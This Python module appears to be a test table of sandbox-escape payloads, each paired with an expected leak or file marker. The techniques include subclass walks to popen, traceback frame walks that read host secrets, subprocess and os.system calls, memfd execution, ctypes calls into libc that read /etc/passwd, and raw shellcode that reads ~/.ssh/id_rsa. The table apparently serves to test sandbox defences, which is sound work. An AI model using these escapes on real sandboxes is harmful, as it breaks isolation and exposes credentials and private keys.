"""Attacks with what the language itself offers, and with native code."""

from __future__ import annotations

from attacks.table import Attack

ATTACKS = [
    Attack(
        "subclasses",
        "class-hierarchy walk to os._wrap_close and popen",
        """
        wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]
        OUT = wrap.__init__.__globals__['popen']('id').read()
        """,
        "leak:uid=",
    ),
    Attack(
        "frame_walk",
        "traceback frames up to the host stack",
        """
        try: 1 / 0
        except ZeroDivisionError as e: frame = e.__traceback__.tb_frame
        OUT = ''
        while frame:
            OUT += str(frame.f_globals.get('PARENT_SECRET', '')) + str(frame.f_globals.get('SECRET', ''))
            OUT += str({name: value for name, value in frame.f_locals.items() if 'SECRET' in name})
            frame = frame.f_back
        """,
        "secret",
    ),
    Attack(
        "subprocess",
        "import subprocess and run a command",
        "import subprocess\nOUT = subprocess.run(['/usr/bin/id'], capture_output=True, text=True).stdout",
        "leak:uid=",
    ),
    Attack(
        "os_system",
        "os.system leaves a file",
        "import os; OUT = os.system('echo x > $HOME/pwn_system')",
        "file:$HOME/pwn_system",
    ),
    Attack(
        "exec_memfd",
        "memfd and execve: run a binary without a file",
        """
        import os
        fd = os.memfd_create('x')
        os.write(fd, open('/usr/bin/id', 'rb').read() if os.path.exists('/usr/bin/id') else b'')
        r, w = os.pipe()
        if (pid := os.fork()) == 0:
            os.dup2(w, 1); os.execve('/proc/self/fd/%d' % fd, ['id'], {})
        os.waitpid(pid, 0); OUT = os.read(r, 300)
        """,
        "leak:uid=",
    ),
    Attack(
        "ctypes_system",
        "native call: ctypes to libc.system",
        "import ctypes; OUT = ctypes.CDLL(None).system(b'echo x > $HOME/pwn_ctypes')",
        "file:$HOME/pwn_ctypes",
    ),
    Attack(
        "ctypes_open",
        "native call: openat and read on /etc/passwd",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        fd = libc.openat(-100, b'/etc/passwd', 0, 0)
        buffer = ctypes.create_string_buffer(300)
        libc.read(fd, buffer, 299)
        OUT = buffer.value
        """,
        "leak:root:x:0",
    ),
    Attack(
        "shellcode",
        "write-and-execute memory: machine code that opens and reads ~/.ssh/id_rsa",
        r"""
        import mmap, ctypes, platform
        assert platform.machine() == 'x86_64'
        memory = mmap.mmap(-1, 4096, prot=7)
        path = b'$HOME/.ssh/id_rsa\0'
        base = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        code = (b'\x48\xc7\xc7\x9c\xff\xff\xff' + b'\x48\xbe' + (base + 512).to_bytes(8, 'little')
                + b'\x48\x31\xd2\x4d\x31\xd2' + b'\xb8\x01\x01\x00\x00\x0f\x05'
                + b'\x89\xc7' + b'\x48\xbe' + (base + 1024).to_bytes(8, 'little')
                + b'\xba\x00\x01\x00\x00\x31\xc0\x0f\x05\xc3')
        memory[512:512 + len(path)] = path
        memory[0:len(code)] = code
        ctypes.CFUNCTYPE(ctypes.c_long)(base)()
        OUT = bytes(memory[1024:1280]).split(b'\0')[0]
        """,
        "leak:CANARY-SSH",
    ),
]
